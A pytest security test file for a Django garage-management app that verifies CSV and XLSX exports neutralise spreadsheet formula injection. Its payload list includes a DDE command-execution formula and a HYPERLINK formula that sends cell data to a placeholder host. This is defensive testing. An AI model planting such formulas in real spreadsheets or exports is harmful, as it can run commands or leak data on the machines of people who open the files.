"""S7: no table that leaves the house holds a formula, whatever was typed into its texts.

How a cell is made harmless and comes back as it was: tests/tables/test_writing.py.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings

from garageflow.documents.content import CSV, XLSX
from tests.security.doors import ALL_TESTS, Door, known_routes
from tests.security.special_values import FORMULA_STARTS
from tests.security.visits import Visitor
from tests.security.world import OURS, World, build_world

FORMULAS = (
    "=1+1",
    "@SUM(1)",
    "+1+1",
    "-1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://canary.invalid/?"&A1)',
    "\t=1+1",
    "\uff1d1+1",
)
# Whoever names a table otherwise is found with --all.
_TABLE = re.compile(r"kind|csv|xlsx|export|errors|list")
_WRITERS = re.compile(r"\bcsv\.writer\b|\bcsv\.DictWriter\b|\bxlsxwriter\b|\bopenpyxl\.Workbook\b")
_MAY_WRITE = {
    "garageflow/tables/writing.py": "the one that makes cells harmless",
    "garageflow/geo/management/commands/extract_postcodes.py": "post codes for our own source",
    "garageflow/demo/files.py": "the lists of the demo, as garages would upload them",
}


@pytest.fixture
def world(db: None, calm: None) -> World:
    return build_world(payloads=FORMULAS)


def test_no_export_holds_a_formula(world: World):
    tables = dict(_tables(world))

    assert {path: [*_formulas(cells)] for path, cells in tables.items()} == {path: [] for path in tables}
    with_rows = [path for path, cells in tables.items() if any(OURS in cell for cell in cells)]
    assert len(with_rows) >= 10, sorted(tables)


def _tables(world: World) -> Iterator[tuple[str, list[str]]]:
    """Every address that answers with a table, in both kinds, and its cells as a spreadsheet sees them."""
    visitor = Visitor(world, "owner")
    for route in known_routes(world):
        if route.is_in_garage and "owner" in route.roles and (ALL_TESTS or _TABLE.search(route.pattern)):
            path = Door(route, "peeters").path(world)
            for address in {path, path.replace("/csv", "/xlsx").replace(".csv", ".xlsx")}:
                cells = _cells_of(visitor, address)
                if cells is not None:
                    yield address, cells


def _cells_of(visitor: Visitor, path: str) -> list[str] | None:
    found: list[str] | None = None

    def look(response: object) -> None:
        nonlocal found
        found = _cells(response)

    visitor.response("GET", path, look=look)
    return found


def _cells(response: object) -> list[str] | None:
    kind = response.headers.get("Content-Type", "").partition(";")[0]  # type: ignore[attr-defined]
    if kind not in (CSV, XLSX):
        return None
    content = b"".join(response) if response.streaming else response.content  # type: ignore[attr-defined,arg-type]
    if kind == CSV:
        text = content.decode("utf-8-sig")
        delimiter = ";" if ";" in text.splitlines()[0] else ","
        return [
            cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row
        ]
    sheets = openpyxl.load_workbook(io.BytesIO(content))
    return [
        f"={cell.value}" if cell.data_type == "f" else f"'{cell.value}"
        for sheet in sheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _formulas(cells: list[str]) -> Iterator[str]:
    """A number is no formula, whatever its sign."""
    for cell in cells:
        if cell.lstrip(" \u00a0").startswith(FORMULA_STARTS) and not re.fullmatch(r"-?[\d.,\s]+", cell):
            yield cell


def test_a_formula_would_be_found():
    assert [*_formulas(["=1+1", "+1+1", "-12,50", "tekst", "@SUM(1)"])] == ["=1+1", "+1+1", "@SUM(1)"]


def test_tables_are_written_in_one_place():
    found = {
        str(path.relative_to(settings.BASE_DIR))
        for package in ("garageflow", "autopaspoort", "stock", "carpass", "convoy", "carshare")
        for path in Path(settings.BASE_DIR, package).rglob("*.py")
        if _WRITERS.search(path.read_text())
    }

    assert found <= set(_MAY_WRITE)
